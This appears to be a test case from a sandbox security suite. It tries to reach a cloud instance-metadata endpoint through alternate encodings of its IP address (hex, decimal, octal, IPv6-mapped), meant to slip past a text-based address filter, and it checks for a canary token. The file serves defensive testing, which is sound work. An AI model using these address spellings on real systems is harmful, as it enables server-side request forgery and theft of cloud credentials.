import { metadataCanary } from '../support/canaries.ts'
import { commandCase } from '../support/command-scene.ts'

export const attack = commandCase({
  mechanism: 'address in disguise',
  gain: 'the same, past a filter that compares addresses as text',
  async attempt(scene) {
    const { token } = await metadataCanary()
    const spellings = [
      '0xa9fea9fe',
      '2852039166',
      '0251.0376.0251.0376',
      '169.254.43518',
      '[::ffff:169.254.169.254]',
      '[::ffff:a9fe:a9fe]',
    ]
    const { output } = await scene.run({
      line: await scene.python(get, ...spellings),
      network: { allowedHosts: spellings },
    })
    return output.includes(token)
  },
})

const get = `
import sys, urllib.request
for host in sys.argv[1:]:
    try:
        print(urllib.request.urlopen('http://%s/latest/meta-data/' % host, timeout=3).read().decode())
    except Exception as error:
        print(host, error)
`
